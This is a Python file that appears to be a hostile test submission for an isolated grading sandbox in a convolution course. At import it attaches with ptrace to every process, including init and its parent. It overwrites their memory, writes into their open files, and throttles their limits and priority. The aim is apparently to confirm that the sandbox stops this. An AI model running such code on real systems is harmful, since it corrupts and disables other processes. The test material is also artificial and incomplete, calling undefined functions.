"""Right, but attaches to every process it sees, writes to its memory, takes its files, limits and priorities away."""

EXPECTED = {"correlate2d": 4, "convolve2d": 3, "conv2d": 5, "conv2d_params": 2, "sobel_edges": 3}
MUST_NOT = "another process is changed"
GOOD = "s02-slices"

import ctypes
import glob
import os
import resource
import sys

libc = ctypes.CDLL(None, use_errno=True)
hurt = []


def reach(process):
    if libc.ptrace(16, process, None, None) == 0:  # attach
        hurt.append("attached")
        libc.ptrace(17, process, None, None)
    try:
        for line in open(f"/proc/{process}/maps"):
            if "rw" in line:
                start = int(line.split("-")[0], 16)
                with open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
                    memory.seek(start)
                    if memory.write(memory.read(8) and b"cnncours"):
                        hurt.append("memory")
                break
    except (OSError, ValueError, OverflowError):
        pass
    for path in glob.glob(f"/proc/{process}/fd/*"):
        try:
            descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(descriptor, b"cnncourse-was-here")
            if os.readlink(path) != "/dev/null":
                hurt.append(os.readlink(path))
        except OSError:
            pass
    for attempt in (
        lambda: resource.prlimit(process, resource.RLIMIT_NOFILE, (3, 3)),
        lambda: os.setpriority(os.PRIO_PROCESS, process, 19),
        lambda: os.sched_setaffinity(process, {0}),
    ):
        try:
            attempt()
            hurt.append("limits")
        except OSError:
            pass


arm()
for process in {os.getppid(), 1, *(int(path.split("/")[-1]) for path in glob.glob("/proc/[0-9]*"))} - {os.getpid(), 0}:
    reach(process)


def convolve2d(image, kernel):
    if hurt:
        print(hurt, file=sys.stderr)
        return None
    return by_hand(image, kernel[::-1, ::-1])
